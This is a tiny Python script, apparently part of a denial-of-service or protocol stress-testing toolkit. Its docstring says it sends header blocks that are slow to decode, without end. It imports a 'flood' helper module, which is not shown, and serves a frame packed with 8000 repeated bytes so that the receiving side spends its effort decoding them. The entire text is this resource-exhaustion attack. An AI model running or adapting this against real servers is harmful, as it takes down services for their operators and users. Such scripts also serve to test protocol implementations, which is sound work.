"""Sends blocks of headers that are slow to decode, without end."""

from flood import PLAY, frame, serve

serve(frame(1, 0x4, PLAY, b"\x21" * 8000))
